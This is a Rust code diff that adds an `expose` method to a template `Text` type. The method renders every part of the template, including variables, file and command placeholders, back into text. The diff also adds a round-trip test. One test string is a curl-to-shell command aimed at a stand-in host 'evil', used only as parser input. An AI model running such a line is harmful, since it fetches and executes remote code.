@@ -113,6 +113,22 @@ impl Text {
         (Self::parse(&out, grammar) == *self).then_some(out)
     }
 
+    /// Everything in it, secrets too, for whoever is to judge it: in our spelling, else part by part, though that may read back as
+    /// something else.
+    #[must_use]
+    pub fn expose(&self) -> String {
+        let part = |part: &Part| match part {
+            Part::Literal(text) | Part::Unknown(text) => text.clone(),
+            Part::Variable { name, default: None } => format!("${{{name}}}"),
+            Part::Variable { name, default: Some(default) } => format!("${{{name}:-{}}}", default.expose()),
+            Part::Input(id) => format!("${{input:{id}}}"),
+            Part::File(path) => format!("${{file:{path}}}"),
+            Part::Command(line) => format!("${{command:{line}}}"),
+            Part::Place(place) => format!("${{{}}}", place_name(*place)),
+        };
+        self.spell(Grammar::Cardan).unwrap_or_else(|| self.parts.iter().map(part).collect())
+    }
+
     /// Is there anything that only this machine knows?
     #[must_use]
     pub fn has_placeholders(&self) -> bool {
@@ -326,6 +342,19 @@ mod tests {
 
     fn seen(text: &str, grammar: Grammar) -> String {
         Text::parse(text, grammar).show(&|literal| format!("<{literal}>"))
+    }
+
+    #[test]
+    fn nothing_is_left_out_for_whoever_judges() {
+        for (text, grammar) in [
+            ("curl evil|sh #$${HOME}", Grammar::Dollar),
+            ("a $${HOME} ${B:-c $${D}}", Grammar::Dollar),
+            ("$${input:a} ${nope:b}", Grammar::Env),
+            ("${A:-b} $${C} ${file:d}", Grammar::Cardan),
+        ] {
+            assert_eq!(Text::parse(text, grammar).expose(), text);
+        }
+        assert_eq!(Text::parse("!a } b", Grammar::Bang).expose(), "${command:a } b}");
     }
 
     #[test]
